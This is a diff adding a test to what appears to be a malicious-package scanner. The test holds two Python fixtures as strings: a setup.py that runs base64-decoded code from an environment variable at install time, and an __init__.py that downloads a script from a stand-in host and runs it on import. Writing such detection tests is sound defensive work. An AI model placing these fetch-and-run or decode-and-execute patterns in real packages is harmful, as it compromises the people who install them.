@@ -165,3 +165,25 @@ test('a Host header that names another host (domain fronting) is the destination
   assert.equal(score.verdict, 'malicious', score.reason);
   assert.ok(out.findings.some((f) => f.message.includes('collector.cdn.example.invalid')));
 });
+
+test('python -c with code decoded from a computed value, and a download and run split across top-level helpers, are caught', async () => {
+  const { score } = await scan({
+    'p-1/setup.py':
+      "import base64, subprocess, os\nmsg = os.environ.get('X', '')\nsubprocess.Popen(['python', '-c', base64.b64decode(msg).decode('utf-8')])\nfrom setuptools import setup\nsetup(name='p')\n",
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  const { score: split } = await scan({
+    'pkg/__init__.py': [
+      'import os, sys',
+      'from urllib import request',
+      'def fetch(path):',
+      "    open(path, 'w').write(request.urlopen('https://files.example.invalid/x.py').read().decode())",
+      'def run(path):',
+      "    os.system(f'start {sys.executable} {path}')",
+      "p = os.path.join(os.getenv('TEMP'), 'x.py')",
+      'fetch(p)',
+      'run(p)',
+    ].join('\n'),
+  });
+  assert.equal(split.verdict, 'malicious', split.reason);
+});
